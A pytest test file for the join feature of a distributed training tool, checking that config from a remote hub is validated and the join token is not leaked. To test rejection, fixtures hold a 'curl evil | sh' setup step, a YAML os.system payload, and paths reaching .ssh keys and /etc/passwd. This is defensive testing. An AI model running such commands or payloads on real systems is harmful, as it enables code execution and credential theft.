"""Joining a run from another site: what is taken from there, what is refused, who sees the line."""

from __future__ import annotations

import os
import re
import ssl
import sys
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from shutil import rmtree
from typing import Any

import pytest
import yaml

from isles.cli import main
from isles.config.clusters import shared_text
from isles.config.load import load_run_file
from isles.config.resolve import dump_resolved, resolve
from isles.errors import CommunicationError, ConfigError, ConfigErrors, PreflightError, UserError
from isles.launch.base import StartOptions
from isles.launch.hub import end_hub, listen_address, local_line, open_hub
from isles.launch.join import Joiner, joining_run, read_join_line
from isles.launch.join import _warn as warn_of
from isles.launch.remote.login import copied_file_script, place_there
from isles.launch.ssh.channel import open_channel
from isles.launch.ssh.shell import Shell
from isles.launch.start import start
from isles.run.join_line import JoinLine, ask_hub
from isles.run.nodes import Fleet, FleetNode
from isles.run.paths import RunDir
from isles.run.remote import RemoteRun, write_remote
from tests.deadline import DEADLINE_S, run_program
from tests.each import each
from tests.ports import listening
from tests.programs import write_program
from tests.run_files import load

RUN = """\
name: tiny
output_dir: /home/a/runs
model: {name_or_path: llama-2m, init: scratch}
tokenizer: {train_vocab_size: 300}
data: {sources: [{path: python-docs}], seq_length: 32, cache_dir: /home/a/cache}
training: {max_steps: 8, global_batch_size: 4, micro_batch_size: 2, max_time: 1h}
outer: {kind: diloco, sync_every: 4, public: "hub.example.org:29400", max_rate: 1MB}
track: [{kind: wandb, project: secret-project}]
clusters:
  - name: alps
    launcher: {kind: slurm, login: someone@login.alps, account: ours}
    gpus_per_node: 8
    environment: {setup: [curl evil | sh], variables: {WHO: me}}
"""
TOKEN = "T" * 42 + "A"
LINE = f"isles://127.0.0.1:1/tiny#{TOKEN}.{TOKEN}"


def given(tmp_path: Path, text: str = RUN, **changes: Any) -> str:
    """What a hub gives to others of a run file, with some values changed in it."""
    content = yaml.safe_load(text)
    for key, value in changes.items():
        content[key] |= value
    return shared_text(load(tmp_path, yaml.safe_dump(content)).config)


@pytest.fixture(scope="module")
def state(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Path]:
    """The state directory of a hub that runs."""
    folder = tmp_path_factory.mktemp("hub")
    state, text = folder / "state", given(folder)
    open_hub(state, run="tiny", settings={}, listen="127.0.0.1:0", run_file=text)
    yield state
    assert end_hub(state) and not end_hub(state)


@pytest.fixture
def line(state: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> JoinLine:
    """Its join line; it gives the run file again, whatever the last test has put there."""
    monkeypatch.chdir(tmp_path)
    (state / "run.yaml").write_text(given(tmp_path))
    return JoinLine.read(state / "join")


def issues(line: JoinLine, joiner: Joiner) -> str:
    with pytest.raises(ConfigErrors) as caught:
        joining_run(line, joiner)
    return str(caught.value)


def test_what_is_given_says_nothing_of_machines_folders_or_people(tmp_path):
    text = given(tmp_path)
    own = ("/home/a", "wandb", "alps", "evil", "WHO", "hub.example", "max_rate", "1h", "  mic")
    assert [word for word in own if word in text] == []
    assert yaml.safe_load(text)["training"]["max_steps"] == 8
    limited = RUN.replace("max_steps: 8,", "lr_scheduler_type: constant,")
    assert yaml.safe_load(given(tmp_path, limited))["training"]["max_time"] == "1h", "its length"


def test_a_cluster_needs_no_run_file(line, tmp_path):
    words = ("launcher.partition=gpu", "nodes=4", "gpus-per-node=8", f"output_dir={tmp_path}")
    found = joining_run(line, Joiner(None, words, "home", "slurm"))
    config = found.config
    assert config.name == "tiny-home" and config.output_dir == str(tmp_path)
    (cluster,) = config.clusters
    assert (cluster.name, cluster.nodes, cluster.gpus_per_node) == ("home", 4, 8)
    assert cluster.launcher.model_dump()["partition"] == "gpu"
    assert cluster.environment.setup == () and config.track == ("jsonl", "tensorboard")
    assert config.training.max_steps == 8 and config.training.micro_batch_size == "auto"
    assert config.diloco is not None and config.diloco.sync_every == 4
    assert config.diloco.max_rate is None and config.diloco.public is None
    # Where a value is from can be seen, and the text of the run says it all again.
    assert found.origins["training.max_steps"] == f"tiny@{line.address}"
    assert found.origins["clusters.0.nodes"] == "command line"
    assert load_run_file(Path("again.yaml"), text=found.text).config == config
    # That its name lives already is told before the queue.
    answer = {"members": [{"name": "home", "state": "living"}, {"name": "b", "state": "left"}]}
    said: list[str] = []
    warn_of(answer, line, found, "b", said.append)
    assert said == []
    taken = pytest.raises(PreflightError, match="home is already part of the run")
    with taken as caught:
        warn_of(answer, line, found, "home", said.append)
    # The fix, followed: another name.
    name = re.search(r"another name with (--\w+)", caught.value.fix)
    assert name is not None and name[1] == "--name"
    assert joining_run(line, Joiner(None, words, "other", "slurm")).config.name == "tiny-other"
    warn_of(answer, line, found, "other", said.append)
    for members in (5, [1], {"a": 1}, "abc", [{"name": 3, "state": "living"}]):
        warn_of({"members": members, "is_over": {"a": 1}}, line, found, "home", said.append)
    assert said == [], "what is not a list of members says nothing"
    for folder in ("~nobody-of-this-name/runs", "n" * 300):
        unlisted = replace(found, config=found.config.model_copy(update={"output_dir": folder}))
        with taken:
            warn_of(answer, line, unlisted, "home", said.append)


@each("here", "workdir", "remote")
def test_a_cluster_that_was_started_from_here_may_go_on(where, *, line, tmp_path):
    answer = {"members": [{"name": "home", "state": "living"}]}
    words = ("gpus-per-node=8", "output_dir=runs", f"workdir={tmp_path}/shared")
    if where != "workdir":
        words = (*words[:1], f"output_dir={tmp_path}/runs")
    found = joining_run(line, Joiner(None, words, "home", "slurm"))
    with pytest.raises(PreflightError):
        warn_of(answer, line, found, "home", str)
    runs = tmp_path / ("shared/runs" if where == "workdir" else "runs")
    if where == "remote":
        run = RemoteRun(
            "tiny-home-1", "me@a", "/x/tiny-home-1", (), "python", "ssh", ("me@a",), 1.0
        )
        write_remote(runs, run)
    else:
        (runs / "tiny-home-1").mkdir(parents=True)
    warn_of(answer, line, found, "home", str)


def test_a_run_file_of_the_site_needs_only_its_clusters(line, tmp_path):
    path = tmp_path / "site.yaml"
    path.write_text("clusters: [{name: a, nodes: 2}, {name: b, device: cpu}]\ntrack: []\n")
    found = joining_run(line, Joiner(path, ("strategy.kind=fsdp",), "b"))
    assert found.config.clusters[0].device == "cpu" and found.config.track == ()
    assert found.config.strategy.kind == "fsdp"
    for name, what in (("", "which one is this site"), ("c", "has no cluster named c")):
        with pytest.raises(ConfigError, match=what) as caught:
            joining_run(line, Joiner(path, (), name))
        assert "a, b" in caught.value.fix
    path.write_text("clusters: [{launcher: {kind: local}}]\n")
    assert joining_run(line, Joiner(path, (), "d")).config.clusters[0].name == "d"
    assert "--on is ssh, but d has launcher local" in issues(line, Joiner(path, (), "d", "ssh"))


def test_what_must_be_equal_is_compared_by_key(line, tmp_path):
    path = tmp_path / "site.yaml"
    path.write_text(RUN.replace("max_steps: 8", "max_steps: 9").replace("alps", "b"))
    joiner = Joiner(path, ("outer.lr=0.5", "outer.outlier=20", "seed=3"), "b")
    text = issues(line, joiner)
    assert f"{path}:6 training.max_steps: 9 on this site, but 8 in the run" in text
    assert "command line outer.lr: 0.5 on this site, but 0.7" in text
    assert "outer.outlier: 20.0 on this site, but 10.0" in text and "seed: 3 on this site" in text
    assert text.count(" on this site, but ") == 4
    own = ("data.sources.0.path=x", "training.global_batch_size=8", "training.precision=32-true")
    path.write_text(RUN.replace("alps", "b"))
    assert joining_run(line, Joiner(path, own)).config.training.global_batch_size == 8


def test_nothing_from_elsewhere_is_trusted(line, state, tmp_path):
    data = "data.sources.0.path="
    for changes, typed, what in (
        ({"model": {"trust_remote_code": True}}, "model.trust_remote_code=true", "Python code"),
        ({"model": {"name_or_path": "/home/a/m"}}, "model.name_or_path=m", "a path or an address"),
        ({"data": {"sources": [{"path": "../../.ssh/id"}]}}, f"{data}text", f"{data}PATH"),
        ({"data": {"sources": [{"path": "~/x"}]}}, f"{data}~/x", "~/x"),
        ({"data": {"sources": [{"path": "s3://theirs/x"}]}}, f"{data}x", "an address"),
        ({"data": {"sources": [{"path": "file:///etc/x"}]}}, f"{data}x", "an address"),
        ({"data": {"sources": [{"path": ".ssh/id_rsa"}]}}, f"{data}x", "a path or an address"),
        ({"data": {"sources": [{"path": "a/.git/**"}]}}, f"{data}x", "a path or an address"),
        ({"data": {"sources": [{"path": "$HOME/x"}]}}, f"{data}x", "a path or an address"),
        ({"tokenizer": {"chat_template": "/etc/passwd"}}, "tokenizer.chat_template=x", "passwd"),
    ):
        (state / "run.yaml").write_text(given(tmp_path, **changes))
        assert what in issues(line, Joiner(name="b"))
        joining_run(line, Joiner(None, (typed,), "b"))


def test_what_others_name_does_not_leave_the_folder_over_a_link(line, state, tmp_path):
    (tmp_path / "far").mkdir()
    (tmp_path / "far/a.txt").write_text("a")
    for name, target in (
        ("link", "../far"),
        ("folder/again", "../../far"),
        ("one.txt", "../far/a.txt"),
    ):
        at = tmp_path / "here" / name
        at.parent.mkdir(parents=True, exist_ok=True)
        at.symlink_to(target)
    os.chdir(tmp_path / "here")  # the fixture goes back
    for path in ("link/a.txt", "link/*", "**/*.txt", "folder/*/a.txt", "one.txt", "*.txt"):
        (state / "run.yaml").write_text(given(tmp_path, data={"sources": [{"path": path}]}))
        assert "leads out of this folder" in issues(line, Joiner(name="b"))
        joining_run(line, Joiner(None, (f"data.sources.0.path='{path}'",), "b"))


def test_only_listed_keys_come_from_elsewhere(tmp_path):
    own = {
        "data": {"cache_dir"},
        "training": {"script", "script_args", "micro_batch_size", "max_time"},
        "outer": {"engine", "url", "hivemind", "hub", "public", "max_rate"},
        "checkpoint": {"push_to_hub", "remote"},
    }
    # A key of a later version is a cluster's own until somebody has thought about it.
    shared = yaml.safe_load(given(tmp_path))
    assert set(shared) <= {"name", "seed", "model", "tokenizer", "adapter", *own}
    config = load(tmp_path, RUN).config
    for section, keys in config.values().items():
        if section in shared and isinstance(keys, dict):
            assert not set(shared[section]) & own.get(section, set()), section
            left = set(keys) - set(shared[section]) - own.get(section, set())
            assert left == set(), f"{section}: say for each whether others may choose it"


def test_through_a_join_line_the_hub_is_the_meeting_place(line, state, tmp_path):
    for more in (
        f"engine: bucket, url: 'file://{tmp_path}/chosen'",
        "engine: hivemind, hivemind: {secret_file: /etc/passwd}",
    ):
        text = RUN.replace("kind: diloco,", f"kind: diloco, {more},")
        text = text.replace(', public: "hub.example.org:29400"', "")
        (state / "run.yaml").write_text(text)
        with pytest.raises(PreflightError, match="another meeting place") as caught:
            joining_run(line, Joiner(name="b"))
        assert caught.value.id == "join.trust" and caught.value.fix
    assert not (tmp_path / "chosen").exists()
    (state / "run.yaml").write_text(given(tmp_path))
    said: list[str] = []
    joining_run(line, Joiner(name="b"), said.append)
    assert "data.sources.0.path=python-docs" in said[0]
    # Nor does whoever answers there fill the memory of this machine.
    (state / "run.yaml").write_text("x" * 40 * 2**20)
    with pytest.raises(CommunicationError, match="more than"):
        ask_hub(line, "/v1/run-file", 20)


def test_a_hub_may_say_what_it_likes(line, state):
    for text, what in (
        ("name: x\n", "does not accept"),
        ("!!python/object/apply:os.system [touch /tmp/x]", "does not accept"),
        ("name: t\ntraining: {script: x.py}\n", "not for several clusters"),
        (RUN.replace("clusters:", "nonsense: 3\nclusters:"), "nonsense"),
    ):
        (state / "run.yaml").write_text(text)
        with pytest.raises(PreflightError, match=what) as caught:
            joining_run(line, Joiner(name="b"))
        assert caught.value.fix
    (state / "run.yaml").write_text("# " + "x" * 2**20 + "\n" + RUN)
    with pytest.raises(PreflightError, match="isles reads at most"):
        joining_run(line, Joiner(name="b"))
    # Even if it were to send what it must not: a script, and where this machine writes.
    (state / "run.yaml").write_text(RUN)
    found = joining_run(line, Joiner(name="b", overrides=("data.sources.0.path=x",)))
    assert found.config.output_dir == "runs" and "evil" not in found.text


def test_who_does_not_answer_is_named_and_a_stranger_gets_no_token(line, state):
    assert ask_hub(line, "/v1/status", 20)["run"] == "tiny"
    assert local_line(state) == line
    silence = pytest.raises(CommunicationError, match=r"within 0\.2 s")
    with listening(lambda _: None) as port, silence:
        ask_hub(replace(line, port=port), "/v1/status", 0.2)
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(state / "certificate.pem", state / "key.pem")
    heard: list[bytes] = []

    def talk(connection):
        with context.wrap_socket(connection, server_side=True) as tls:
            heard.append(tls.recv(1 << 16))

    with listening(lambda other: other.sendall(b"SSH-2.0\r\n" * 9)) as ssh, listening(talk) as tls:
        for wrong, kind, what in (
            (replace(line, port=ssh), PreflightError, "is not a hub"),
            # It is told nothing before its certificate is looked at.
            (replace(line, port=tls, fingerprint=b"x" * 32), PreflightError, "certificate"),
            (replace(line, port=1), CommunicationError, "no hub listens"),
            (replace(line, token=TOKEN), PreflightError, "token"),
            (
                replace(line, host="nowhere.invalid"),
                CommunicationError,
                "does not know the host nowhere",
            ),
        ):
            with pytest.raises(kind, match=what) as caught:
                ask_hub(wrong, "/v1/status", 20)
            assert line.token not in str(caught.value) and caught.value.fix
    assert heard == [b""] or not heard


def test_a_hub_is_found_again_and_not_changed_under_way(state, tmp_path):
    line = JoinLine.read(state / "join")
    same: dict[str, Any] = {"run": "tiny", "settings": {}, "listen": "127.0.0.1:0"}
    assert open_hub(state, **same) == (line, False)
    with pytest.raises(ConfigError, match=r"running already .* with a different value of settings"):
        open_hub(state, **same | {"settings": {"min_clusters": 2}})
    with pytest.raises(PreflightError, match=f"cannot listen on 127.0.0.1:{line.port}"):
        open_hub(tmp_path / "other", **same | {"listen": f"127.0.0.1:{line.port}"})


def test_where_a_hub_listens():
    for public, listen, at in (
        ("", "", "127.0.0.1:0"),  # nobody else, unless it is said
        ("127.0.0.1:29400", "", "127.0.0.1:29400"),
        ("192.0.2.77:29400", "", "0.0.0.0:29400"),  # behind a router
        ("192.0.2.77:443", "127.0.0.1:29400", "127.0.0.1:29400"),
    ):
        assert listen_address(public, listen) == at
    for public, listen in (("", "0.0.0.0:29400"), ("nothing", ""), ("", "x:y")):
        with pytest.raises(ConfigError) as caught:
            listen_address(public, listen)
        assert caught.value.where in ("--listen", "--public") and caught.value.fix


def test_the_line_is_read_from_a_file_stdin_or_the_command(tmp_path, monkeypatch, capsys):
    (tmp_path / "line").write_text(f"{LINE}\n")
    with (tmp_path / "line").open() as stdin:
        monkeypatch.setattr(sys, "stdin", stdin)
        assert read_join_line("-") == read_join_line(LINE) == read_join_line(str(tmp_path / "line"))
    assert main(["join", str(tmp_path / "nothing")]) == 1
    assert main(["join", LINE[:-3]]) == 1
    said = capsys.readouterr().err
    assert "nor an existing file" in said and "not a join line" in said and TOKEN not in said


# Delivery: the line is in the file `join` of the run, and nowhere else.


def options(tmp_path: Path, *overrides: str) -> StartOptions:
    path = tmp_path / "own.yaml"
    path.write_text(
        "name: own\nmodel: {name_or_path: llama-2m, init: scratch}\n"
        "data: {sources: [{type: fake}], seq_length: 32}\n"
        "training: {max_steps: 8, global_batch_size: 4}\n"
        f"outer: {{kind: diloco, sync_every: 4}}\noutput_dir: {tmp_path}/runs\n"
        "clusters: [{device: cpu, gpus_per_node: 1}]\n"
    )
    return StartOptions(path, overrides, "auto", False, str, str, join=LINE)


def assert_only_in_its_file(run_dir: RunDir) -> None:
    assert run_dir.join_line.read_text() == f"{LINE}\n"
    assert run_dir.join_line.stat().st_mode & 0o777 == 0o600
    files = [path for path in run_dir.path.rglob("*") if path.is_file()]
    holders = [path for path in files if TOKEN in path.read_text(errors="replace")]
    assert holders == [run_dir.join_line]


PBS_STATE = "[ $1 = --version ] && echo pbs_version = 23 || echo '    job_state = Q'"


@each(("pbs", "qsub"), ("slurm", "sbatch"))
def test_a_queue_is_given_no_secret(kind, program, *, tmp_path, monkeypatch):
    folder, said = tmp_path / "bin", tmp_path / "said"
    told = f'{{ env; echo "$@"; for f; do :; done; cat "$f"; }} > {said}; echo 7'
    write_program(folder / program, told)
    write_program(folder / "qstat", PBS_STATE)
    write_program(folder / "squeue", "echo 7")
    monkeypatch.chdir(tmp_path)
    launcher = f"clusters.0.launcher={{kind: {kind}, time: 1h, bin_path: {folder}}}"
    asked = options(tmp_path, launcher)
    assert TOKEN not in repr(asked)
    shown = start(replace(asked, dry_run=True))
    assert TOKEN not in shown
    started = start(asked)
    assert "isles.agent" in said.read_text() and TOKEN not in said.read_text()
    assert_only_in_its_file(started.run_dir)


def test_by_hand_it_lies_on_the_first_node_and_a_new_one_replaces_it(tmp_path):
    asked = options(tmp_path, "clusters.0.launcher={kind: manual, hosts: [127.0.0.1]}")
    started = start(asked)
    assert TOKEN not in started.text
    assert_only_in_its_file(started.run_dir)
    rmtree(started.attempt.path)
    for join, kept in (("", LINE), (other := LINE.replace("127.0.0.1", "127.0.0.2"), other)):
        again = start(replace(asked, resume=str(started.run_dir.path), join=join))
        assert again.run_dir.path == started.run_dir.path
        assert again.run_dir.join_line.read_text() == f"{kept}\n"
        (again.attempt.path / "launch.json").unlink()


def test_a_run_of_one_cluster_is_given_none(tmp_path):
    with pytest.raises(UserError, match="does not average with other") as caught:
        start(options(tmp_path, "outer={kind: none}"))
    assert "outer" in caught.value.where and TOKEN not in str(caught.value)


def test_over_ssh_it_travels_by_stdin_to_the_first_host(run_file):
    loaded = load_run_file(run_file, ["outer={kind: diloco, sync_every: 5}"])
    fleet = Fleet("ssh", (FleetNode(0, "a", "a", "127.0.0.1", 1),), 29500, 1, "cpu", 60.0, "")
    begin = {"resume": "auto", "join": LINE, "typed": "", "dry_run": False, "text": loaded.text}
    begin |= {"resolved": dump_resolved(resolve(loaded, num_gpus=0)), "fleet": fleet.record()}
    with open_channel(Shell(), python=sys.executable) as channel:
        said = channel.call("begin", timeout_s=DEADLINE_S, **begin)
        channel.call("end", timeout_s=DEADLINE_S, what="enough")
    assert "begun_at" in said and TOKEN not in str(said)
    assert_only_in_its_file(RunDir(run_file.parent / "runs" / "tiny-1"))


def test_over_a_login_node_it_is_the_first_line_of_stdin(tmp_path):
    """By bash there, which starts isles; here a small program stands for it."""
    there = place_there(load_run_file(options(tmp_path).path))
    lines = 'echo "$@"\nshift 2\ncat "$1" "$2"; stat -c %a $(dirname "$1")'
    program = write_program(tmp_path / "python", lines)
    secret = f"{there.rpartition('/')[0]}/join-line"
    script = copied_file_script(there, [], str(program), [there, secret], secret=secret)
    assert TOKEN not in script
    text = "name: x\n\n  odd: \\n %s 'quoted'\n"
    done = run_program(["bash", "-c", script], input=f"{LINE}\n{text}")
    assert done.returncode == 0
    assert done.stdout == f"-m isles {there} {secret}\n{text}{LINE}\n700\n"
    assert not Path(there).parent.exists()
